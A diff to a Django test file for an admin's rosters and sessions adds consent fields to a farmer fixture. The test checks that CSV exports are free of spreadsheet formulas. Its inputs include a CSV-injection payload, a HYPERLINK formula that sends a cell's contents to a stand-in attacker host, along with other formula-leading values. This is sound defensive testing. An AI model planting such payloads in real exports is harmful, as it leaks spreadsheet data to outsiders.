@@ -1,5 +1,7 @@
 """Rosters and sessions in the admin: each role sees only its own, sessions are read-only."""
 
+import datetime
+
 import pytest
 from django.urls import reverse
 
@@ -131,7 +133,14 @@ def test_csv_downloads_of_groups_and_farmers_hold_no_formula(client, ghana_platf
     group.name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
     group.region = "@SUM(A1:A9)"
     group.save()
-    FarmerFactory(group=group, member_code="+M-9", name="-2+3")
+    # With consent: a name without it is not in the download at all (decision 0023).
+    FarmerFactory(
+        group=group,
+        member_code="+M-9",
+        name="-2+3",
+        consent_given=True,
+        consent_date=datetime.date(2026, 1, 5),
+    )
 
     groups = client.get(url(type(group), "list"), {"export": "csv"})
     farmers = client.get(url(Farmer, "list"), {"export": "csv"})
